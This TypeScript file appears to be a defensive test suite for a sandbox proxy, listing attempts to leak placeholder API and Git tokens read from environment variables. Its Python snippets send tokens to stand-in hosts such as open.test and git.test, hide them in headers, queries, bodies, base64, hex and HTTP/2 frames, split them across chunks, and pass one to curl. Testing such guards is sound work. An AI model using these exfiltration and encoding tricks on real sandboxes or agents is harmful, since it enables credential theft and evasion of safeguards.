import type { AttackGroup } from '../../attack.ts';
import type { NetworkArena } from '../arena.ts';
import { basicToken, queryToken, token } from '../rules.ts';
import { type Trace, tries } from '../tries.ts';
import { holds } from '../world/spellings.ts';

/** Where the token of the API may stand: its header, at its host, over TLS, on its port. */
const rightPlace = (one: Trace['seen'][number]) =>
  one.kind === 'request' && one.serverName === 'api.test' && one.port === 443;

/** The request that carried a placeholder arrived at all, or a value stood anywhere but in its place. */
function carriedOff({ seen, mark }: Trace): boolean {
  return seen.some(
    (one) =>
      (one.kind === 'request' && one.url.includes(mark)) ||
      [token, basicToken, queryToken].some((value) => holds(JSON.stringify(one), value)),
  );
}
const carries = (name: string, python: (mark: string) => string) =>
  tries(name, {
    python: (mark) => `P = os.environ['API_TOKEN']; G = os.environ['GIT_TOKEN']\n${python(mark)}`,
    success: carriedOff,
  });
const api = (name: string, ...more: string[]) =>
  carries(name, (mark) => `get('https://api.test/${mark}', ${more.join(', ')})`);

/** What stands for a secret in a sandbox is no secret; the value never goes anywhere but where it is bound. */
export const placeholders: AttackGroup<NetworkArena> = {
  name: 'placeholders',
  harm: 'leak',
  control: tries('in the header and at the host that it is bound to', {
    python: (mark) => `get('https://api.test/${mark}', 'X-Token: ' + os.environ['API_TOKEN'])`,
    success: ({ seen }) => seen.some((one) => rightPlace(one) && holds(JSON.stringify(one), token)),
  }),
  attacks: [
    carries('to a host that is not bound', (mark) => `get('https://open.test/${mark}', 'X-Token: ' + P)`),
    carries('to a host below the bound one', (mark) => `get('https://a.api.test/${mark}', 'X-Token: ' + P)`),
    carries('to another port of the host', (mark) => `get('https://api.test:8443/${mark}', 'X-Token: ' + P)`),
    carries('over plain HTTP', (mark) => `get('http://api.test/${mark}', 'X-Token: ' + P)`),
    carries(
      'over plain HTTP inside CONNECT',
      (mark) =>
        `t = tunnel('api.test:443'); t.sendall(('GET /${mark} HTTP/1.1\\r\\nHost: api.test:443\\r\\nX-Token: ' + P + '\\r\\nConnection: close\\r\\n\\r\\n').encode()); read(t)`,
    ),
    carries(
      'with a method that is not bound',
      (mark) => `get('https://api.test/${mark}', 'X-Token: ' + P, method='DELETE')`,
    ),
    carries("to another secret's host", (mark) => `get('https://git.test/${mark}', 'X-Token: ' + P)`),
    carries('in the path of its host', (mark) => `get('https://api.test/${mark}/' + P)`),
    carries('in the query', (mark) => `get('https://api.test/${mark}?t=' + P)`),
    api('in another header', "'X-Other: ' + P"),
    api('in another header beside the right one', "'X-Token: ' + P", "'X-Other: ' + P"),
    api('in the bound header of two', "'X-Token: x'", "'X-Other: ' + P"),
    api('as a bearer token', "'Authorization: Bearer ' + P"),
    api('as a cookie', "'Cookie: a=b; t=' + P"),
    api('as the user agent', "'User-Agent: ' + P"),
    api("in a header's name", "P + ': x'"),
    api('in the body', "method='POST', body=b't=' + P.encode()"),
    api('in a body of JSON', `method='POST', body=b'{"t":"' + P.encode() + b'"}'`),
    api('in capitals', "'X-Other: ' + P.upper()"),
    api('in base64', "'X-Other: ' + base64.b64encode(P.encode()).decode()"),
    api('in base64, shifted', "'X-Other: ' + base64.b64encode(b'u:' + P.encode()).decode()"),
    api('in base64 for URLs', "'X-Other: ' + base64.urlsafe_b64encode(b'~~' + P.encode()).decode()"),
    api('in hex', "'X-Other: ' + P.encode().hex()"),
    carries(
      'percent-encoded in the query',
      (mark) => `get('https://api.test/${mark}?t=' + ''.join('%%%02x' % c for c in P.encode()))`,
    ),
    carries(
      'percent-encoded twice',
      (mark) => `get('https://api.test/${mark}?t=' + ''.join('%%25%02x' % c for c in P.encode()))`,
    ),
    api(
      'escaped as in JSON',
      "method='POST', body=('{\"t\":\"' + ''.join('\\\\u%04x' % c for c in P.encode()) + '\"}').encode()",
    ),
    api('as HTML entities', "method='POST', body=''.join('&#%d;' % c for c in P.encode()).encode()"),
    api('split by white space', "'X-Other: ' + P[:12] + ' ' + P[12:]"),
    // Its pieces may arrive, being nothing by themselves; what they stand for may not.
    tries('split over two headers', {
      python: (mark) =>
        `P = os.environ['API_TOKEN']; get('https://open.test/${mark}', 'X-A: ' + P[:12], 'X-A: ' + P[12:])`,
      success: ({ seen }) => seen.some((one) => holds(JSON.stringify(one), token)),
    }),
    carries(
      'split into user and password',
      (mark) =>
        `get('https://git.test/${mark}', 'Authorization: Basic ' + base64.b64encode((P[:12] + ':' + P[12:]).encode()).decode())`,
    ),
    carries(
      'split over chunks',
      (mark) =>
        `inside('api.test:443', ('POST /${mark} HTTP/1.1\\r\\nHost: api.test\\r\\nTransfer-Encoding: chunked\\r\\nConnection: close\\r\\n\\r\\nc\\r\\n' + P[:12] + '\\r\\n').encode(), ('%x\\r\\n%s\\r\\n0\\r\\n\\r\\n' % (len(P) - 12, P[12:])).encode())`,
    ),
    carries(
      'as the user of a URL',
      (mark) => `subprocess.run(['curl', '-sS', 'https://' + P + ':x@open.test/${mark}'])`,
    ),
    carries(
      'two at once',
      (mark) => `get('https://api.test/${mark}', 'X-Token: ' + P, 'Authorization: ' + G)`,
    ),
    carries(
      'one that nobody was given',
      // As core/secrets/placeholder.ts makes them: what one looks like is no secret.
      (mark) => `import hashlib
letters = 'abcdefghijklmnopqrstuvwxyz234567'
check = hashlib.sha256(b'deckhand:placeholder:v1:' + b'a' * 26).digest()[:6]
get('https://api.test/${mark}', 'X-Token: dh_' + 'a' * 26 + ''.join(letters[byte % 32] for byte in check))`,
    ),
    carries(
      'of HTTP/2, in another header',
      (mark) =>
        `s = h2('api.test:443'); s.sendall(frame(1, 5, 1, fields(*asks('api.test', '/${mark}'), ('x-other', P)))); read(s)`,
    ),
    carries(
      'of HTTP/2, in pieces of a cookie',
      (mark) =>
        `s = h2('api.test:443'); s.sendall(frame(1, 5, 1, fields(*asks('api.test', '/${mark}'), ('cookie', P[:12]), ('cookie', P[12:])))); read(s)`,
    ),
    carries(
      'in a WebSocket to another host',
      (mark) =>
        `get('https://open.test/${mark}', 'Upgrade: websocket', 'Connection: Upgrade', 'X-Token: ' + P, close=False)`,
    ),
    tries('in a header that Connection takes away', {
      python: (mark) =>
        `get('https://api.test/${mark}', 'X-Token: ' + os.environ['API_TOKEN'], 'Connection: x-token')`,
      success: ({ seen }) =>
        seen.some((one) => one.kind === 'request' && !rightPlace(one) && holds(JSON.stringify(one), token)),
    }),
    tries('in a trailer', {
      python: (mark) =>
        `inside('open.test:443', ('POST /${mark} HTTP/1.1\\r\\nHost: open.test\\r\\nTransfer-Encoding: chunked\\r\\nTrailer: X-Token\\r\\nConnection: close\\r\\n\\r\\n1\\r\\nx\\r\\n0\\r\\nX-Token: ' + os.environ['API_TOKEN'] + '\\r\\n\\r\\n').encode())`,
      success: ({ seen }) =>
        seen.some((one) => /dh_[a-z2-7]{32}/.test(JSON.stringify(one)) || holds(JSON.stringify(one), token)),
    }),
    tries('for the proxy itself', {
      python: (mark) =>
        `get('http://open.test/${mark}', 'Proxy-Authorization: Basic ' + os.environ['API_TOKEN'])`,
      success: ({ seen }) =>
        seen.some((one) => /dh_[a-z2-7]{32}/.test(JSON.stringify(one)) || holds(JSON.stringify(one), token)),
    }),
  ],
};
